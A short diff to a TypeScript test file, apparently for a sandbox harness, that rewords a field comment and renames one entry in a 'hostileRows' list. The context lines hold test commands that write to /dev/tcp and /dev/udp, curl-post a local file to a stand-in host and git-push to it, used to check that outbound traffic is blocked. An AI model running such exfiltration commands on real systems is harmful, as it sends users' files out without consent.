@@ -11,7 +11,7 @@ export type Row = {
   readonly check?: Json;
   /** Where the task works, if not in the project: a folder of the system, for root alone. */
   readonly cwd?: string;
-  /** What may be left of it by somebody who asks nobody, seen from the home: new files in the project that nothing runs; all below a folder that ends with a slash. Everything else must be as it was. */
+  /** What may be left of it if no one is asked, as paths in the home: new files in the project that nothing runs; everything below a folder that ends with a slash. Everything else must be as it was. */
   readonly leaves?: readonly string[];
 };
 
@@ -154,7 +154,7 @@ export const hostileRows: readonly Row[] = [
     ],
     'the network': [shell('echo spoken > /dev/tcp/127.0.0.1/{port}; echo spoken > /dev/udp/127.0.0.1/{port}; true')],
     'the network, asked for': [shell('echo spoken > /dev/tcp/127.0.0.1/{port}', { network: true })],
-    'a host that nobody allowed': [
+    'a host that is not allowed': [
       shell('curl -sS -d @a.txt http://spoken.example/; git push https://spoken.example/x', { network: true }),
     ],
     'this machine, by the proxy': [
